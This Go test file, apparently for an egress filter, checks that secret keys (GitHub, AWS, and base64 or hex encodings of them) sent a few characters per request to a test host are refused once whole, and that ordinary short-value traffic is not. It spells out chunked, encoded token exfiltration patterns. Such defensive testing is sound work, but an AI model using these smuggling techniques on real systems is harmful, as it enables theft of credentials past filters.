package egress

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/url"
	"testing"
)

// TestOutsideKeyInTinyPieces: a key sent two or three characters a
// request, in one query parameter or one header, with requests that vary
// other things between, is refused once it is whole (base64's padding may
// still be to come), not before.
func TestOutsideKeyInTinyPieces(t *testing.T) {
	for _, size := range []int{2, 3} {
		for name, tok := range map[string]string{
			"github":   outsideGitHub,
			"aws":      outsideAWS,
			"injected": outsideSecret,
			"base64":   base64.StdEncoding.EncodeToString([]byte(outsideGitHub)),
		} {
			t.Run(fmt.Sprintf("%s by %d", name, size), func(t *testing.T) {
				sendInPieces(t, tok, size, func(piece string) string {
					if size == 2 {
						return "GET /search?q=" + url.QueryEscape(piece) + " HTTP/1.1\nHost: files.example.test\nUser-Agent: curl/8.5.0\n\n"
					}
					return "GET /p HTTP/1.1\nHost: files.example.test\nX-Part: " + piece + "\n\n"
				})
			})
		}
	}
}

// TestOutsideTinyPiecesBenign: a client whose short values vary with each
// request (a page number, a two-letter language, a flag) is not refused.
func TestOutsideTinyPiecesBenign(t *testing.T) {
	o := newOutside(t)
	const F = "files.example.test"
	langs := []string{"en", "gh", "de", "ak", "fr", "ia", "sk", "es", "ey", "hf", "np"}
	for i := range 80 {
		raw := fmt.Sprintf("GET /v1/items?page=%d&lang=%s&f=%c%d HTTP/1.1\nHost: %s\nX-Shard: %x\n\n", i, langs[i%len(langs)], 'a'+i%26, i%7, F, i*37%256)
		if code, body := o.send(t, F, raw); code != 200 {
			t.Fatalf("request %d: %d %s", i, code, body)
		}
	}
}

// TestOutsideKeyOffsetInPieces: a key that starts inside a piece (one or
// two characters before it, or the name of a variable, encoded with it),
// sent four or eight characters a request with others between, is refused
// once it is whole.
func TestOutsideKeyOffsetInPieces(t *testing.T) {
	for name, tok := range map[string]string{
		"one character before":       "x" + outsideGitHub,
		"two characters before":      "xy" + outsideGitHub,
		"base64 of k=key":            base64.StdEncoding.EncodeToString([]byte("k=" + outsideGitHub)),
		"base64 of GITHUB_TOKEN=key": base64.StdEncoding.EncodeToString([]byte("GITHUB_TOKEN=" + outsideGitHub)),
		"hex of k=key":               hex.EncodeToString([]byte("k=" + outsideGitHub)),
	} {
		for _, size := range []int{4, 8} {
			t.Run(fmt.Sprintf("%s by %d", name, size), func(t *testing.T) {
				sendInPieces(t, tok, size, func(piece string) string {
					return "GET /search?q=" + url.QueryEscape(piece) + " HTTP/1.1\nHost: files.example.test\n\n"
				})
			})
		}
	}
}

// TestOutsideKeyWithRepeatedPieces: a key whose next piece is the same as
// the one before it (a client's fixed value is sent again and again, and
// adds nothing) is refused all the same.
func TestOutsideKeyWithRepeatedPieces(t *testing.T) {
	tok := "ghp_" + "R8mX" + "R8mX" + "q2LwZ4vNc7TjKp9sYd3HfB6g" + "Ae" + "Ae"
	for _, size := range []int{2, 4} {
		t.Run(fmt.Sprint(size), func(t *testing.T) {
			sendInPieces(t, tok, size, func(piece string) string {
				return "GET /p HTTP/1.1\nHost: files.example.test\nX-Part: " + piece + "\n\n"
			})
		})
	}
}

// sendInPieces sends tok size characters a request as raw makes it, three
// unrelated requests to the same host after each; it wants the request
// that makes the key whole refused (or the one after it: base64's
// padding), and none before it.
func sendInPieces(t *testing.T, tok string, size int, raw func(piece string) string) {
	t.Helper()
	o := newOutside(t)
	const F = "files.example.test"
	for i := 0; i < len(tok); i += size {
		if code, _ := o.send(t, F, raw(tok[i:min(i+size, len(tok))])); code == 403 {
			if i+size < len(tok)-2 {
				t.Fatalf("refused at piece %d of %d, before the key was whole", i/size, (len(tok)+size-1)/size)
			}
			return
		}
		for k := range 3 {
			o.send(t, F, fmt.Sprintf("GET /n/%d HTTP/1.1\nHost: %s\nX-Trace: t%d-%d\n\n", i+k, F, i, k*7919))
		}
	}
	t.Error("every piece got out")
}
